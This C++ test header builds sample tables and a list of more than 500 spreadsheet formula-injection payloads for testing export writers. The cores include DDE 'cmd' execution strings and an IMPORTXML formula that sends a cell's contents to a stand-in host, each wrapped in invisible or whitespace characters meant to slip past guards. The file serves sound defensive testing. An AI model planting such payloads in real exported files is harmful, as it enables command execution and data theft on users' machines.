// Tables for the tests of the writers.
#pragma once

#include "exchange/table_document.h"

#include <vector>

namespace dimsum::test
{

// A table with these rows; USD.
inline TableDocument tableOf(std::vector<TableColumn> columns, std::vector<std::vector<Cell>> rows)
{
    TableDocument document;
    document.title = QStringLiteral("Test");
    document.columns = std::move(columns);
    document.rowCount = static_cast<std::int64_t>(rows.size());
    document.rows = [rows = std::move(rows)](const RowSink &sink) -> Outcome {
        for (const std::vector<Cell> &row : rows)
            if (Outcome outcome = sink(row); !outcome)
                return outcome;
        return Done{};
    };
    return document;
}

// More than 500 texts that spreadsheets are known to run, in every wrapping that was used to get past a
// guard.
inline QStringList formulaPayloads()
{
    const QStringList cores{QStringLiteral("=1+1"),
                            QStringLiteral("+1+1"),
                            QStringLiteral("-1+1"),
                            QStringLiteral("@SUM(1,1)"),
                            QStringLiteral("=cmd|' /C calc'!A0"),
                            QStringLiteral("=HYPERLINK(\"http://x.example\",\"a\")"),
                            QStringLiteral("=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")"),
                            QStringLiteral("+cmd|'/C x'!A1"),
                            QStringLiteral("-2+3+cmd|' /C calc'!A0"),
                            QStringLiteral("@A1"),
                            QStringLiteral("=\"a\"&\"b\""),
                            QStringLiteral("=A1\n=B1"),
                            QStringLiteral("\uff1d1+1"),
                            QStringLiteral("\uff0b1"),
                            QStringLiteral("\uff0d1"),
                            QStringLiteral("\uff20A1"),
                            QStringLiteral("=1,2;3"),
                            QStringLiteral("=\u53f0\u7a4d\u96fb")};
    const QStringList heads{QString(),
                            QStringLiteral(" "),
                            QStringLiteral("   "),
                            QStringLiteral("\t"),
                            QStringLiteral("\r"),
                            QStringLiteral("\n"),
                            QStringLiteral("\r\n"),
                            QStringLiteral("\u00a0"),
                            QStringLiteral("\ufeff"),
                            QStringLiteral("\u200b"),
                            QStringLiteral("\u200d"),
                            QStringLiteral("\u2060"),
                            QStringLiteral("\u3000"),
                            QStringLiteral("\u2003"),
                            QStringLiteral("\v"),
                            QStringLiteral("\f"),
                            QStringLiteral("\u0001"),
                            QStringLiteral("\u0085"),
                            QStringLiteral("\u2028"),
                            QStringLiteral("\u202e"),
                            QStringLiteral("'"),
                            QStringLiteral("''"),
                            QStringLiteral("\u00ad"),
                            QStringLiteral("' "),
                            QStringLiteral(" \t\ufeff"),
                            QStringLiteral("\U000E0001"),
                            QStringLiteral("\u180e"),
                            QStringLiteral("\u061c")};
    QStringList payloads;
    for (const QString &head : heads)
        for (const QString &core : cores)
            payloads.append(head + core);
    return payloads;
}

} // namespace dimsum::test
